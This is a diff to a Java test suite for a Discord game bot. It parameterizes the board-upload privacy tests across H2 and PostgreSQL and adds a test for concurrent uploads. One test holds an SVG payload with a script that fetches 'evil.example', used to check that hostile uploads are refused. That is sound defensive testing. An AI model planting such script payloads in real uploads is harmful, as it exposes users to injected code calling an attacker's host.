@@ -28,14 +28,15 @@ import org.chancery.discord.posting.Sleeper;
 import org.chancery.game.GameService;
 import org.chancery.game.TestClock;
 import org.chancery.store.Database;
+import org.chancery.store.TestStores;
 import org.junit.jupiter.api.AfterEach;
-import org.junit.jupiter.api.BeforeEach;
-import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.EnumSource;
 
 /**
  * Issue 35 on Discord: a server admin uploads a board with /variant upload and its attachments, the answer is
  * private with a preview, games are made of it, and another server sees none of it (the privacy matrix: not listed,
- * offered, shown, or usable by id or by key).
+ * offered, shown, or usable by id or by key). Each runs on H2 and on PostgreSQL (migration V8's tables).
  */
 class BoardsOnDiscordTest {
     static final Duration WAIT = ChanceryOnDiscordTest.WAIT;
@@ -48,8 +49,7 @@ class BoardsOnDiscordTest {
     GameService service;
     ChanceryBot bot;
 
-    @BeforeEach
-    void start() throws Exception {
+    void start(TestStores.Kind kind) throws Exception {
         fake = FakeDiscord.start();
         owner = fake.user("owner");
         club = fake.guild("Diplomacy Club", owner);
@@ -59,7 +59,7 @@ class BoardsOnDiscordTest {
         rivalOwner = fake.user("rival");
         rivals = fake.guild("Rival Club", rivalOwner);
         elsewhere = rivals.textChannel("boards");
-        db = Database.inMemory();
+        db = TestStores.fresh(kind);
         service = new GameService(db, TestClock.at("2030-03-01T12:00:00Z"));
         bot = ChanceryBot.start(new DiscordConfig(fake.token(), Optional.empty(), Optional.empty()), fake.endpoints(),
                 service, new RenderedMaps(), DiscordBot.DEFER_AFTER, Sleeper.REAL, Duration.ofMillis(200));
@@ -91,8 +91,10 @@ class BoardsOnDiscordTest {
         return answer(fake.slash(who, where, "variant upload", files));
     }
 
-    @Test
-    void anAdminUploadsABoardAndItsGamesKeepTheirVersion() throws Exception {
+    @ParameterizedTest
+    @EnumSource(TestStores.Kind.class)
+    void anAdminUploadsABoardAndItsGamesKeepTheirVersion(TestStores.Kind kind) throws Exception {
+        start(kind);
         InteractionResponse refusedGm = upload(gm, channel, sixCrowns(), null);
         assertTrue(refusedGm.ephemeral());
         assertTrue(text(refusedGm).contains("Only a server admin"), text(refusedGm));
@@ -123,8 +125,10 @@ class BoardsOnDiscordTest {
         assertTrue(text(status).contains("Six Crowns"), "an ended game still reads its board: " + text(status));
     }
 
-    @Test
-    void anotherServerSeesNoneOfIt() throws Exception {
+    @ParameterizedTest
+    @EnumSource(TestStores.Kind.class)
+    void anotherServerSeesNoneOfIt(TestStores.Kind kind) throws Exception {
+        start(kind);
         upload(owner, channel, sixCrowns(), null);
         String key = service.boards().list(String.valueOf(channel.guildId())).get(0).key();
 
@@ -147,8 +151,10 @@ class BoardsOnDiscordTest {
         assertTrue(text(inDm).contains("use this in one of its channels"), text(inDm));
     }
 
-    @Test
-    void anExportCarriesItsBoardAndTheImportMakesItTheOtherServers() throws Exception {
+    @ParameterizedTest
+    @EnumSource(TestStores.Kind.class)
+    void anExportCarriesItsBoardAndTheImportMakesItTheOtherServers(TestStores.Kind kind) throws Exception {
+        start(kind);
         upload(owner, channel, sixCrowns(), null);
         answer(fake.slash(gm, channel, "game create", Map.of("variant", "six-crowns")));
         InteractionResponse exported = answer(fake.slash(gm, channel, "game export", Map.of()));
@@ -166,13 +172,38 @@ class BoardsOnDiscordTest {
         assertTrue(text(refused).contains("The board was refused; nothing was stored") && text(refused).contains("victoryCentres is 99"), text(refused));
     }
 
-    @Test
-    void aHostileUploadIsRefusedPrivatelyAndKeepsNothing() throws Exception {
+    @ParameterizedTest
+    @EnumSource(TestStores.Kind.class)
+    void aHostileUploadIsRefusedPrivatelyAndKeepsNothing(TestStores.Kind kind) throws Exception {
+        start(kind);
         String svg = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('https://evil.example')</script></svg>";
         InteractionResponse r = upload(owner, channel, sixCrowns(), svg);
         assertTrue(r.ephemeral());
         assertTrue(text(r).contains("The board was refused; nothing was stored"), text(r));
         assertTrue(text(r).contains("holds <script>"), text(r));
         assertTrue(service.boards().list(String.valueOf(channel.guildId())).isEmpty());
+    }
+
+    /** While Chancery tries one server's board, another server's upload is answered at once, privately, that it is busy. */
+    @org.junit.jupiter.api.Test
+    void anUploadWhileAnotherIsTriedIsToldToWait() throws Exception {
+        start(TestStores.Kind.H2);
+        String json = new String(sixCrowns(), StandardCharsets.UTF_8);
+        org.chancery.game.HeldTrial trial = new org.chancery.game.HeldTrial();
+        Thread other = new Thread(() -> service.boards().upload(new org.chancery.game.Actor("x", "Elsewhere", true), "guild-x",
+                new org.chancery.variant.upload.UploadedVariants.Files(json, null), trial));
+        other.start();
+        try {
+            assertTrue(trial.reached());
+            InteractionResponse busy = upload(owner, channel, sixCrowns(), null);
+            assertTrue(busy.ephemeral());
+            assertTrue(text(busy).contains("Chancery is checking another board just now; nothing was stored"), text(busy));
+            assertTrue(service.boards().list(String.valueOf(channel.guildId())).isEmpty());
+        } finally {
+            trial.letGo();
+            other.join(30_000);
+        }
+        InteractionResponse up = upload(owner, channel, sixCrowns(), null);
+        assertTrue(text(up).contains("passed every check"), text(up));
     }
 }
